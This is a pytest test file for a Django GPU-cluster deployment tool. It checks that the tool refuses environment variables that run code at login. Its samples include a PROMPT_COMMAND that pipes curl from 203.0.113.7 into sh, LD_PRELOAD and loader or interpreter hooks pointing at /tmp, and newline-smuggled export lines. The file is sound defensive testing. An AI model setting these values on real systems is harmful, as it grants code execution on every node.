"""The plan's extra environment (/etc/profile.d/rackpilot.sh, sourced by every login shell on every node): only GPU,
communication and framework settings are taken; a variable that makes the shell, the dynamic loader or an
interpreter run code is refused with a 400 naming it (API) or an error on the field (wizard), and nothing is stored."""

import pytest
from django.urls import reverse

from apps.deployments import services
from apps.deployments.models import Deployment
from apps.jobs.services import TargetSpec

# Each runs code for whoever logs in: a shell hook, a loader or interpreter start-up hook, or a library to load.
RUNS_CODE = {
    "PROMPT_COMMAND": "curl -s http://203.0.113.7/x | sh",
    "LD_PRELOAD": "/tmp/x.so",
    "LD_AUDIT": "/tmp/x.so",
    "BASH_ENV": "/tmp/x.sh",
    "ENV": "/tmp/x.sh",
    "PS4": "$(id)",
    "PERL5OPT": "-Mx",
    "PYTHONSTARTUP": "/tmp/x.py",
    "PYTHONPATH": "/tmp",
    "NCCL_NET_PLUGIN": "/tmp/x.so",
    "CUDA_INJECTION64_PATH": "/tmp/x.so",
    "UCX_MODULE_DIR": "/tmp",
    "OMP_TOOL_LIBRARIES": "/tmp/x.so",
}
GOOD = {
    "NCCL_IB_TIMEOUT": "22",
    "CUDA_DEVICE_MAX_CONNECTIONS": "1",
    "TORCH_NCCL_ASYNC_ERROR_HANDLING": "1",
    "PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True",
    "XLA_FLAGS": "--xla_gpu_enable_latency_hiding_scheduler=true",
    "HF_HOME": "/checkpoints/hf",
    "WANDB_PROJECT": "llama-pretrain",
    "OMP_NUM_THREADS": "8",
}


def _create(client, environment: dict):
    payload = {"name": "d", "targets": {"nodes": ["gpu031"]}, "options": {"environment": environment}}
    return client.post(reverse("api:deployment-list"), payload, format="json")


@pytest.mark.django_db
@pytest.mark.parametrize("name", sorted(RUNS_CODE))
def test_the_api_refuses_a_variable_that_runs_code_and_creates_nothing(demo_cluster, operator, api_as, name):
    response = _create(api_as(operator), {"WANDB_PROJECT": "llama", name: RUNS_CODE[name]})

    assert response.status_code == 400
    assert list(response.json()) == [f"options.environment.{name}"], response.json()
    assert not Deployment.objects.exists()


@pytest.mark.django_db
def test_ld_library_path_stays_the_plans_own(demo_cluster, operator, api_as):
    response = _create(api_as(operator), {"LD_LIBRARY_PATH": "/tmp"})

    assert response.status_code == 400
    assert "options.environment.LD_LIBRARY_PATH" in response.json()
    assert not Deployment.objects.exists()


@pytest.mark.django_db
def test_gpu_communication_and_framework_variables_are_taken(demo_cluster, operator, api_as):
    response = _create(api_as(operator), GOOD)

    assert response.status_code == 201, response.json()
    assert response.json()["options"]["environment"] == GOOD


@pytest.mark.django_db
def test_an_edit_that_adds_a_refused_variable_changes_nothing(demo_cluster, operator, api_as):
    deployment = services.create_deployment(
        name="d", targets=TargetSpec(nodes=("gpu031",)), user=operator, option_edits={"environment": GOOD}
    )
    url = reverse("api:deployment-detail", args=[deployment.public_id])

    response = api_as(operator).patch(url, {"options": {"environment": {**GOOD, "BASH_ENV": "/tmp/x"}}}, format="json")

    assert response.status_code == 400
    assert "options.environment.BASH_ENV" in response.json()
    deployment.refresh_from_db()
    assert deployment.options["environment"] == GOOD


@pytest.mark.django_db
@pytest.mark.parametrize("value", ["a\nexport LD_PRELOAD=/tmp/x.so", "a\rb", "a\u2028export PS4=x", "a\x00b", "a\x1bb"])
def test_a_value_that_could_break_out_of_its_line_is_refused(demo_cluster, operator, api_as, value):
    response = _create(api_as(operator), {"WANDB_NOTES": value})

    assert response.status_code == 400
    assert list(response.json()) == ["options.environment.WANDB_NOTES"], response.json()
    assert not Deployment.objects.exists()


@pytest.fixture
def draft(demo_cluster, operator):
    return services.create_deployment(name="h200-r04", targets=TargetSpec(nodes=("gpu031",)), user=operator)


def _versions_post(deployment, environment: str) -> dict:
    data = {"environment": environment}
    for section, values in deployment.options.items():
        if section == "environment":
            continue
        for name, value in values.items():
            if value is True:
                data[f"{section}__{name}"] = "on"
            elif value is not False:
                data[f"{section}__{name}"] = value
    return data


@pytest.mark.parametrize("line", ["LD_PRELOAD=/tmp/x.so", "PROMPT_COMMAND=id", "PYTHONSTARTUP=/tmp/x.py"])
def test_the_wizard_shows_a_refused_variable_on_the_field_and_stores_nothing(browser_as, operator, draft, line):
    client = browser_as(operator)
    before = draft.options

    response = client.post(
        f"/deployments/{draft.public_id}/wizard/versions/", _versions_post(draft, f"NCCL_IB_TIMEOUT=22\n{line}")
    )

    assert response.status_code == 400
    field = response.content.decode().split('data-field="environment"')[1].split('<div class="field')[0]
    assert line.split("=")[0] in field and "not allowed" in field
    draft.refresh_from_db()
    assert draft.options == before


def test_the_wizard_takes_framework_variables(browser_as, operator, draft):
    client = browser_as(operator)
    lines = "\n".join(f"{name}={value}" for name, value in GOOD.items())

    response = client.post(f"/deployments/{draft.public_id}/wizard/versions/", _versions_post(draft, lines))

    assert response.status_code == 302
    draft.refresh_from_db()
    assert draft.options["environment"] == GOOD


@pytest.mark.django_db
def test_a_plan_stored_before_the_rule_answers_409_and_a_page_that_says_why(demo_cluster, operator, api_as, client):
    deployment = services.create_deployment(
        name="old", targets=TargetSpec(nodes=("gpu031",)), user=operator, option_edits={"environment": GOOD}
    )
    # Saved by an older release, before variables that run code were refused.
    Deployment.objects.filter(pk=deployment.pk).update(
        options={**deployment.options, "environment": {"LD_PRELOAD": "/tmp/x.so"}}
    )
    api = api_as(operator)
    for action in ("plan", "artefacts"):
        response = api.get(reverse(f"api:deployment-{action}", args=[deployment.public_id]))
        assert response.status_code == 409, (action, response.content[:300])
        assert "options.environment.LD_PRELOAD" in response.json()["errors"]

    client.force_login(operator)
    page = client.get(reverse("deployment-wizard", args=[deployment.public_id, "review"]), follow=True)
    assert page.redirect_chain[-1][0].endswith("/wizard/versions/")  # where the options are edited
    assert page.status_code == 200
    assert "no longer accepted" in page.content.decode() and "LD_PRELOAD" in page.content.decode()
    download = client.get(reverse("deployment-artefact", args=[deployment.public_id, "environment"]))
    assert download.status_code == 409
